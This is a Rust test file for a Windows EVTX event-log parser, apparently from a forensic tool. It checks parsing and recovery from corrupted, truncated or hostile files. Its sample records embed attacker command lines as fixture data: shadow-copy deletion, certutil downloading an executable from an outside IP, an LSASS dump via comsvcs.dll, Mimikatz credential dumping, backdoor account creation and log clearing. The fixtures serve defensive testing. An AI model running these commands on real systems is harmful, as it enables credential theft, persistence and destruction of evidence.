use super::FORMAT;
use super::chunks::{CHUNK_LEN_BYTES, HEADER_LEN_BYTES};
use super::sample::{
    FRAGMENT_HEADER, Sample, TYPE_BINXML, TYPE_STRING, element, file, file_with, instance_at,
    instance_of, seal_header, utf16, value,
};
use crate::testing::{Read, hostile, read};
use proptest::prelude::*;
use std::path::Path;

const SYSMON: &str = "Microsoft-Windows-Sysmon";
const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";
const SECURITY: &str = "Microsoft-Windows-Security-Auditing";
const SERVICES: &str = "Service Control Manager";
const POWERSHELL: &str = "Microsoft-Windows-PowerShell";
const POWERSHELL_CHANNEL: &str = "Microsoft-Windows-PowerShell/Operational";

const fn process<'a>(data: &'a [(&'a str, &'a str)]) -> Sample<'a> {
    Sample {
        provider: SYSMON,
        channel: SYSMON_CHANNEL,
        event_id: 1,
        data,
    }
}

const fn logon<'a>(event_id: u16, data: &'a [(&'a str, &'a str)]) -> Sample<'a> {
    Sample {
        provider: SECURITY,
        channel: "Security",
        event_id,
        data,
    }
}

/// What `samples/windows.evtx` holds, seven a chunk.
const SAMPLES: [Sample<'static>; 21] = [
    logon(
        4624,
        &[
            ("TargetUserName", "taro"),
            ("LogonType", "2"),
            ("IpAddress", "192.0.2.10"),
        ],
    ),
    process(&[
        ("UtcTime", "2026-03-01 10:00:02.000"),
        ("Image", r"C:\Windows\System32\whoami.exe"),
        ("OriginalFileName", "whoami.exe"),
        ("CommandLine", "whoami /priv"),
        ("User", r"NT AUTHORITY\SYSTEM"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
    ]),
    logon(
        4625,
        &[
            ("TargetUserName", "hanako"),
            ("LogonType", "3"),
            ("Status", "0xc0000072"),
            ("SubStatus", "0xc0000072"),
            ("IpAddress", "198.51.100.7"),
        ],
    ),
    process(&[
        ("UtcTime", "2026-03-01 10:00:04.000"),
        ("Image", r"C:\Windows\System32\vssadmin.exe"),
        ("OriginalFileName", "VSSADMIN.EXE"),
        ("CommandLine", "vssadmin.exe delete shadows /all /quiet"),
        ("User", r"EXAMPLE\taro"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
    ]),
    Sample {
        provider: SERVICES,
        channel: "System",
        event_id: 7045,
        data: &[
            ("ServiceName", "PSEXESVC"),
            ("ImagePath", r"%SystemRoot%\PSEXESVC.exe"),
            ("ServiceType", "user mode service"),
            ("StartType", "demand start"),
            ("AccountName", "LocalSystem"),
        ],
    },
    Sample {
        provider: POWERSHELL,
        channel: POWERSHELL_CHANNEL,
        event_id: 4104,
        data: &[
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", "Invoke-Mimikatz -DumpCreds"),
            ("ScriptBlockId", "00000000-0000-0000-0000-000000000001"),
            ("Path", ""),
        ],
    },
    logon(
        4720,
        &[
            ("TargetUserName", "guest$"),
            ("TargetDomainName", "EXAMPLE"),
            ("SubjectUserName", "taro"),
        ],
    ),
    process(&[
        ("UtcTime", "2026-03-01 10:00:08.000"),
        ("Image", r"C:\Windows\System32\certutil.exe"),
        ("OriginalFileName", "CertUtil.exe"),
        (
            "CommandLine",
            "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        ),
        ("User", r"EXAMPLE\taro"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
    ]),
    process(&[
        ("UtcTime", "2026-03-01 10:00:09.000"),
        ("Image", r"C:\Windows\System32\notepad.exe"),
        ("OriginalFileName", "NOTEPAD.EXE"),
        ("CommandLine", "notepad.exe 議事録.txt"),
        ("User", r"EXAMPLE\hanako"),
        ("ParentImage", r"C:\Windows\explorer.exe"),
    ]),
    Sample {
        provider: "Microsoft-Windows-Eventlog",
        channel: "System",
        event_id: 104,
        data: &[("SubjectUserName", "taro"), ("Channel", "Application")],
    },
    logon(
        4672,
        &[
            ("SubjectUserName", "admin"),
            ("PrivilegeList", "SeDebugPrivilege"),
        ],
    ),
    process(&[
        ("UtcTime", "2026-03-01 10:00:12.000"),
        ("Image", r"C:\Windows\System32\rundll32.exe"),
        ("OriginalFileName", "RUNDLL32.EXE"),
        (
            "CommandLine",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full",
        ),
        ("User", r"EXAMPLE\taro"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
    ]),
    logon(4634, &[("TargetUserName", "taro"), ("LogonType", "2")]),
    logon(
        4648,
        &[
            ("SubjectUserName", "taro"),
            ("TargetUserName", "admin"),
            ("TargetServerName", "srv1.example.com"),
            ("ProcessName", r"C:\Windows\System32\runas.exe"),
        ],
    ),
    Sample {
        provider: SERVICES,
        channel: "System",
        event_id: 7036,
        data: &[("param1", "Windows Update"), ("param2", "running")],
    },
    process(&[
        ("UtcTime", "2026-03-01 10:00:16.000"),
        ("Image", r"C:\Windows\System32\net.exe"),
        ("OriginalFileName", "net.exe"),
        ("CommandLine", "net user /add backdoor P@ssw0rd"),
        ("User", r"EXAMPLE\taro"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
    ]),
    logon(
        4688,
        &[
            ("NewProcessName", r"C:\Windows\System32\nltest.exe"),
            ("CommandLine", "nltest /domain_trusts"),
            ("SubjectUserName", "taro"),
            ("ParentProcessName", r"C:\Windows\System32\cmd.exe"),
        ],
    ),
    logon(
        4698,
        &[
            ("TaskName", r"\update"),
            ("TaskContent", r"<Command>C:\Users\Public\a.exe</Command>"),
            ("SubjectUserName", "taro"),
        ],
    ),
    Sample {
        provider: POWERSHELL,
        channel: POWERSHELL_CHANNEL,
        event_id: 4104,
        data: &[
            ("MessageNumber", "1"),
            ("MessageTotal", "1"),
            ("ScriptBlockText", "Get-ChildItem C:\\"),
            ("ScriptBlockId", "00000000-0000-0000-0000-000000000002"),
            ("Path", ""),
        ],
    },
    logon(
        4776,
        &[
            ("TargetUserName", "taro"),
            ("Workstation", "ws1"),
            ("Status", "0x0"),
        ],
    ),
    process(&[
        ("UtcTime", "2026-03-01 10:00:21.000"),
        ("Image", r"C:\Windows\System32\wevtutil.exe"),
        ("OriginalFileName", "wevtutil.exe"),
        ("CommandLine", "wevtutil.exe cl Security"),
        ("User", r"EXAMPLE\taro"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe"),
    ]),
];
const PER_CHUNK: usize = 7;
const ALL: std::ops::RangeInclusive<u64> = 1..=21;

fn sample() -> Vec<u8> {
    file(&SAMPLES, PER_CHUNK)
}

fn ids(read: &Read) -> Vec<u64> {
    read.0.iter().map(|event| event.record_id).collect()
}

/// Everything but one record.
fn all_but(id: u64) -> Vec<u64> {
    ALL.filter(|other| *other != id).collect()
}

/// Offset in the file of a record.
fn offset_of(bytes: &[u8], id: u64) -> usize {
    let mut header = b"**\0\0....".to_vec();
    header.extend(id.to_le_bytes());
    (HEADER_LEN_BYTES..bytes.len() - header.len())
        .find(|&at| {
            bytes[at..].starts_with(b"**\0\0") && bytes[at + 8..].starts_with(&id.to_le_bytes())
        })
        .expect("a record")
}

#[test]
fn the_sample_file_is_what_is_written_here() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/formats/evtx/samples/windows.evtx");
    if std::env::var_os("YAGURA_BLESS").is_some() {
        std::fs::write(&path, sample()).expect("a writable folder");
    }
    assert!(std::fs::read(&path).expect("a sample") == sample());
}

#[test]
fn reads_each_record_with_its_own_offset() {
    let bytes = sample();
    let read = read(&FORMAT, &bytes);
    assert_eq!(read.1, []);
    assert_eq!(ids(&read), ALL.collect::<Vec<_>>());
    for event in &read.0 {
        assert_eq!(event.offset, offset_of(&bytes, event.record_id) as u64);
        assert!(event.time.is_some());
    }
    let text = read.0[8]
        .fields
        .get("CommandLine")
        .map(|v| v.to_text().into_owned());
    assert_eq!(text.as_deref(), Some("notepad.exe 議事録.txt"));
}

#[test]
fn a_damaged_body_is_reported_at_its_record() {
    let mut bytes = sample();
    let at = offset_of(&bytes, 10);
    bytes[at + 28..at + 60].fill(0xFE);
    let read = read(&FORMAT, &bytes);
    assert_eq!(ids(&read), all_but(10));
    assert_eq!((read.1[0].offset, read.1[0].record), (at as u64, 10));
    assert_eq!(read.1.len(), 1);
}

#[test]
fn records_behind_a_damaged_header_are_read() {
    let good = sample();
    let at = offset_of(&good, 3);
    // Signature, length (too long, zero, pointing back by wrapping), time.
    let damages: [(usize, &[u8]); 6] = [
        (0, b"XX"),
        (4, &[0xFF; 4]),
        (4, &[0; 4]),
        (4, &[0xF0, 0xFF, 0xFF, 0xFF]),
        (4, &[29, 0, 0, 0]),
        (16, &[0xFF; 8]),
    ];
    for (shift, damage) in damages {
        let mut bytes = good.clone();
        bytes[at + shift..at + shift + damage.len()].copy_from_slice(damage);
        let read = read(&FORMAT, &bytes);
        let got = ids(&read);
        assert!(
            all_but(3).iter().all(|id| got.contains(id)),
            "{damage:?}: {got:?}"
        );
        assert!(read.1.iter().all(|e| e.offset == at as u64), "{:?}", read.1);
    }
}

#[test]
fn a_damaged_chunk_header_loses_no_record() {
    for (at, damage) in [
        (0, vec![0; 8]),
        (24, vec![0xFF; 16]),
        (48, vec![0; 4]),
        (48, vec![0xFF; 4]),
        (128, vec![0xFF; 384]),
        (0, vec![0xA5; 512]),
    ] {
        let mut bytes = sample();
        let chunk = HEADER_LEN_BYTES + CHUNK_LEN_BYTES;
        bytes[chunk + at..chunk + at + damage.len()].copy_from_slice(&damage);
        let read = read(&FORMAT, &bytes);
        assert_eq!(ids(&read), ALL.collect::<Vec<_>>(), "at {at}");
    }
}

#[test]
fn a_circle_of_names_does_not_hang() {
    let mut bytes = sample();
    let chunk = &mut bytes[HEADER_LEN_BYTES..HEADER_LEN_BYTES + CHUNK_LEN_BYTES];
    // Two names in the free space, each of which says that the other is next.
    let (first, second) = (60_000_usize, 60_100_usize);
    for (at, next) in [(first, second), (second, first)] {
        chunk[at..at + 4].copy_from_slice(&u32::try_from(next).expect("small").to_le_bytes());
    }
    chunk[128..132].copy_from_slice(&u32::try_from(first).expect("small").to_le_bytes());
    seal_header(chunk);
    assert_eq!(ids(&read(&FORMAT, &bytes)), ALL.collect::<Vec<_>>());
}

#[test]
fn what_is_whole_in_a_cut_off_file_is_read() {
    let bytes = sample();
    for id in [8, 10, 21] {
        let at = offset_of(&bytes, id);
        for extra in [1, 30, 100] {
            let read = read(&FORMAT, &bytes[..at + extra]);
            assert_eq!(ids(&read), (1..id).collect::<Vec<_>>(), "{id} {extra}");
            let last = read.1.last().expect("a complaint");
            assert_eq!((last.offset, last.record), (at as u64, id));
        }
    }
    // Only free space is missing.
    let read = read(&FORMAT, &bytes[..bytes.len() - 1_000]);
    assert_eq!((ids(&read).len(), read.1.len()), (21, 0));
}

#[test]
fn a_damaged_file_header_does_not_matter() {
    let mut bytes = sample();
    bytes[8..HEADER_LEN_BYTES].fill(0xFF);
    assert_eq!(ids(&read(&FORMAT, &bytes)).len(), 21);
}

#[test]
fn a_chunk_of_other_bytes_is_one_complaint() {
    let mut bytes = sample();
    let chunk = HEADER_LEN_BYTES + CHUNK_LEN_BYTES;
    bytes[chunk..chunk + CHUNK_LEN_BYTES].fill(0x5A);
    let read = read(&FORMAT, &bytes);
    assert_eq!(ids(&read).len(), 14);
    assert_eq!(read.1.len(), 1);
    assert_eq!((read.1[0].offset, read.1[0].record), (chunk as u64, 2));
}

#[test]
fn a_template_within_itself_does_not_hang() {
    let bytes = file_with(
        |chunk| {
            let definition_at = chunk.len() + 4 + 10;
            let template = |chunk: &mut Vec<u8>| {
                element(chunk, "Event", &[], |chunk| {
                    (0..3).for_each(|_| instance_at(chunk, definition_at, &[]));
                });
            };
            instance_of(chunk, template, &[]);
        },
        &SAMPLES[1],
    );
    only_the_good_one(&bytes);
}

#[test]
fn a_long_value_in_many_places_does_not_fill_memory() {
    let long = vec![(TYPE_STRING, utf16(&"x".repeat(12_000)))];
    let bytes = file_with(
        |chunk| {
            let places =
                |chunk: &mut Vec<u8>| (0..7_000).for_each(|_| value(chunk, 0, TYPE_STRING));
            instance_of(chunk, |chunk| element(chunk, "Event", &[], places), &long);
        },
        &SAMPLES[1],
    );
    only_the_good_one(&bytes);
}

#[test]
fn values_of_values_do_not_multiply() {
    let bytes = file_with(
        |chunk| {
            let definition_at = chunk.len() + 4 + 10;
            let mut values = vec![(TYPE_STRING, utf16("x"))];
            for _ in 0..12 {
                let mut inner = FRAGMENT_HEADER.to_vec();
                instance_at(&mut inner, definition_at, &values);
                inner.push(0);
                values = vec![(TYPE_BINXML, inner)];
            }
            let places = |chunk: &mut Vec<u8>| (0..10).for_each(|_| value(chunk, 0, TYPE_BINXML));
            instance_of(chunk, |chunk| element(chunk, "Event", &[], places), &values);
        },
        &SAMPLES[1],
    );
    only_the_good_one(&bytes);
}

#[track_caller]
fn only_the_good_one(bytes: &[u8]) {
    let read = read(&FORMAT, bytes);
    assert_eq!(ids(&read), [2], "{:?}", read.1);
    assert_eq!(read.1.len(), 1);
    assert_eq!((read.1[0].offset, read.1[0].record), (4_608, 1));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_flipped_bits_cost_only_their_records(flips in prop::collection::vec((any::<prop::sample::Index>(), 0_u8..8), 1..4)) {
        let mut bytes = sample();
        let used: Vec<usize> = (HEADER_LEN_BYTES..bytes.len()).filter(|at| bytes[*at] != 0).collect();
        for (at, bit) in &flips {
            bytes[*at.get(&used)] ^= 1 << bit;
        }
        let got = read(&FORMAT, &bytes).0.len();
        prop_assert!(got + 2 * flips.len() >= 21, "{got} events");
    }

    #[test]
    fn damaged_chunks_never_panic(damaged in hostile(Box::leak(sample().into_boxed_slice()))) {
        let mut bytes = sample();
        let len = damaged.len().min(8_000);
        bytes[HEADER_LEN_BYTES + 512..HEADER_LEN_BYTES + 512 + len].copy_from_slice(&damaged[..len]);
        read(&FORMAT, &bytes);
    }
}
